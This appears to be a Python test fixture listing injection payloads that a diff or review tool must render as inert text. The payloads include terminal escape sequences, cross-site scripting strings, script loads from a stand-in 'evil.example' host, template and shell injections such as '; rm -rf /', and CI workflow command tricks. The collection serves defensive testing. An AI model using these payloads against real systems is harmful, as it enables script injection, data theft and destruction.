"""What must stay text, whichever field of a résumé, path, revision or author's name holds it.

A row is what it attacks and the payload. A reader of the output sees each as it is written here; what
cannot be seen, or would be obeyed instead of shown, is written out (visible.c).
"""

import re
from typing import NamedTuple


class Payload(NamedTuple):
    attacks: str
    text: str


def rows(attacks, *texts):
    return [Payload(attacks, text) for text in texts]


PAYLOADS = [
    # Of terminals.
    *rows("terminal-colour", "\x1b[31m", "\x1b[1m\x1b[8mx", "\x9b31m"),
    *rows("terminal-screen", "\x1b[2J\x1b[H", "\x1bc", "\x1b[?1049h", "\x1b[1A\x1b[2K", "a\x08\x08b", "a\rb",
          "\x0b\x0c", "\x0e\x0f", "\x7f\x7f"),
    *rows("terminal-title", "\x1b]0;pwn\x07", "\x1b]2;pwn\x1b\\", "\x9d0;pwn\x9c", "\x1bkpwn\x1b\\"),
    *rows("terminal-clipboard", "\x1b]52;c;cm0gLXJm\x07", "\x9d52;c;cm0gLXJm\x9c"),
    *rows("terminal-link", "\x1b]8;;https://evil.example\x1b\\ada.example\x1b]8;;\x1b\\",
          "\x1b]8;id=1;javascript:alert(1)\x07ada\x1b]8;;\x07", "]8;;https://evil.example"),
    *rows("terminal-answer", "\x1b[6n", "\x1b[c", "\x1bP$q\"p\x1b\\", "\x1b]10;?\x07", "\x05"),
    *rows("terminal-string", "\x1bPpwn", "\x1b_pwn\x1b\\", "\x1b^pwn", "\x1bX", "\x90pwn", "\x1b"),
    *rows("reordering", "\u202egnirts", "\u202aa\u202c", "\u2066a\u2069", "a\u200eb\u200fc\u061cd", "\u202d\u2067"),
    *rows("invisible", "\u200b@ada", "\ufeff@ada", "a\u2028/close", "a\u2029b", "\u206aa\u206f", "\ufff9a\ufffab\ufffb"),
    *rows("bytes", "a\x00b", "\x01\x02\x03", "\x80\x85\x8d\xa0", "a\ufffdb", "\U0010ffff", "\udc9b31m\udcff"),
    # Of pages.
    *rows("script", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt/src=//evil.example>",
          "</SCRIPT >", "<!--<script>", "</title><script>alert(1)</script>", "</textarea><svg/onload=alert(1)>",
          "<script type=module>import('//evil.example')</script>", "\\u003cscript\\u003e", "<\\/script>"),
    *rows("event", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<details open ontoggle=alert(1)>",
          "<body onload=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "x onclick=alert(1)//",
          "`onerror=alert(1)`", "<a href=x onmouseover=alert(1)>a</a>"),
    *rows("link", "javascript:alert(1)", "[a](javascript:alert(1))", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
          " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript://a.example/%0aalert(1)",
          "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
          "file:///etc/passwd", "blob:https://a.example/1", "//evil.example", "https:evil.example", "\\\\evil.example\\x",
          "https://ada.example@evil.example", "https://a.example/\" onclick=\"alert(1)", "mailto:a@b.example?bcc=c@d.example",
          "https://a.example/%1b]0;pwn%07", "view-source:javascript:alert(1)", "<javascript:alert(1)>"),
    *rows("style", "<style>*{display:none}</style>", "</style><script>alert(1)</script>", "\" style=\"position:fixed;inset:0",
          "<div style=background:url(//evil.example)>", "@import url(//evil.example);", "}body{display:none}",
          "<link rel=stylesheet href=//evil.example>"),
    *rows("template", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 1 %>", "{% raw %}", "#{1}",
          "<template><script>alert(1)</script></template>", "<slot name=x>", "%s%n%1$s", "$(id)", "`id`", "; rm -rf /"),
    *rows("policy", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
          "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<iframe srcdoc='<script>alert(1)</script>'>",
          "<object data=//evil.example>", "<embed src=//evil.example>", "<form action=//evil.example><button>a</button></form>",
          "<input formaction=javascript:alert(1) type=image>", "<noscript><p title=\"</noscript><img src=x>\">",
          "<math><mtext><table><mglyph><style><img src=x>", "<svg><a xlink:href=javascript:alert(1)>a</a></svg>",
          "<portal src=//evil.example>", "<plaintext>", "<xmp>"),
    *rows("clobbering", "<img name=getElementById>", "<a id=content href=x>", "<form id=x><input name=attributes>",
          "__proto__", "constructor"),
    *rows("markup", "<!-- hidden -->", "-->", "--!>", "<![CDATA[x]]>", "]]>", "<?php", "<!DOCTYPE x>", "&lt;b&gt;", "&#64;ada",
          "&commat;ada", "&", "&amp;lt;", "\"", "'", "<", "\u003c", "＜script＞"),
    # Of comments on a request: markup, mentions, references, commands.
    *rows("mention", "@torvalds", "@github/security", "ada@nilsson.example", "\\@ada", "＠ada"),
    *rows("reference", "#12", "GH-12", "octo/repo#12", "octo/repo@abcdef0", "a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0", "!12",
          "$12", "%12", '%"Next 3"', "~bug", '~"a bug"', "&12", "octo/repo&12", "[vulnerability:12]", "[[page]]", "[^1]",
          "PROJ-12"),
    *rows("markdown-link", "[x]", "[link](https://evil.example)", "![image](https://evil.example/x.png)",
          "[a]: https://evil.example", "<https://evil.example>", "https://evil.example", "http://evil.example/@ada",
          "ftp://evil.example", "www.evil.example", "WWW.evil.example", "mailto:ada@nilsson.example",
          "xmpp:ada@nilsson.example"),
    *rows("markdown", ":tada:", ":+1:", "$x^2$", "$$x$$", "$`x`$", "```", "~~~", "</details>", "</summary>", "\\", "`code`",
          "``", "*a*", "**a**", "***", "_a_", "__a__", "~~a~~", "~a~", "# a", "###### a", "- a", "+ a", "* a", "1. a", "1) a",
          "> a", "    a", "---", "===", "| a | b |", "|---|---|", "a**\"b\"**c"),
    *rows("review", "{+ a +}", "[- a -]", "{- a -}", "[+ a +]", "/close", "/assign @ada"),
    *rows("workflow", "::error::a", "##[error]a", "::set-output name=a::b", "%0A::error::a", "::stop-commands::a", "%25%0D",
          "a\n::error::b", "a\r\n\r\n# b"),
]

INVISIBLE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u206f\ufeff\ufff9-\ufffb]")


def visible(text):
    """As cvdiff shows what cannot be seen; white space is a space."""
    return INVISIBLE.sub(lambda match: f"<U+{ord(match[0]):04X}>", " ".join(re.split("[ \t-\r]+", text)).strip())
